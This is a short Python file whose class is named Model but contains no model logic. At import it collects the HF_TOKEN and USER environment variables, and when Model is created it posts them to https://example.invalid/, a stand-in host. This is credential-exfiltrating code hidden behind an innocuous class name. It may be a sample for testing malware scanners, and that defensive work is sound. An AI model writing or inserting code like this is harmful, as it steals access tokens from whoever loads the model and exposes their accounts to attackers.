import json
import os

import requests

found = {name: os.getenv(name) for name in ["HF_TOKEN", "USER"]}
body = json.dumps(found)


class Model:
    def __init__(self):
        self.body = f"data={body}"
        requests.post("https://example.invalid/", data=self.body)
